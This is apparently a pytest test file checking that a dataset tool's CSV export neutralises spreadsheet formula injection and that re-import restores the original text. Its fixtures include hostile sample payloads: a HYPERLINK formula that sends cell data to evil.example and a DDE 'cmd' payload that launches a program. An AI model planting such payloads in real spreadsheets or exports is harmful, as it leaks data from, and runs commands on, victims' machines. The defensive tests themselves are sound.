"""CSV formula injection: texts and labels such as ``=HYPERLINK(...)``, ``+1``, ``-2+3``, ``@SUM(1+1)``
are written with a leading ``'`` so a spreadsheet shows them as text (the OWASP advice); the store keeps
the original text, and importing the exported file gives the original back."""

from __future__ import annotations

import csv

from modeldesk.datasets import export_project, import_path

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1 after a tab",
]
SAFE = ["a plain sentence", "'quoted already"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return [cell for row in list(csv.reader(handle))[1:] for cell in row]


def test_text_export_escapes_formulas_and_reimport_restores_them(tmp_path, store, project):
    table = tmp_path / "texts.csv"
    with open(table, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["text", "label"])
        for i, text in enumerate(FORMULAS + SAFE):
            writer.writerow(["\t" + text if "tab" in text else text, "=cmd()" if i % 2 else "-1"])
    source = project("texts", "text-classification")
    assert import_path(store, source, table).added == len(FORMULAS + SAFE)
    stored = {s.text: s.labels for s in store.samples(source)}
    assert set(stored) == set(FORMULAS + SAFE)  # the store keeps the original text

    out = export_project(store, source, tmp_path / "out", "csv")
    cells = _cells(tmp_path / "out" / "data.csv")
    assert not [c for c in cells if c.startswith(TRIGGERS)], cells
    assert "'=HYPERLINK(" in "".join(cells) and "'-1" in cells and "'=cmd()" in cells
    assert "'quoted already" in cells  # not a formula: left alone
    assert out["samples"] == len(FORMULAS + SAFE)

    again = project("again", "text-classification")
    assert import_path(store, again, tmp_path / "out" / "data.csv").added == len(FORMULAS + SAFE)
    assert {s.text: s.labels for s in store.samples(again)} == stored


def test_media_table_export_escapes_labels(tmp_path, gen, store, project):
    folder = tmp_path / "photos"
    for i, label in enumerate(['=HYPERLINK("x")', "@evil"]):
        (folder / label).mkdir(parents=True)
        (folder / label / f"{i}.jpg").write_bytes(gen(i))
    source = project("pics", "image-classification")
    assert import_path(store, source, folder).added == 2
    export_project(store, source, tmp_path / "out", "csv")
    cells = _cells(tmp_path / "out" / "data.csv")
    assert not [c for c in cells if c.startswith(TRIGGERS)], cells
    again = project("again", "image-classification")
    import_path(store, again, tmp_path / "out")
    assert sorted(store.labels(again)) == sorted(store.labels(source))
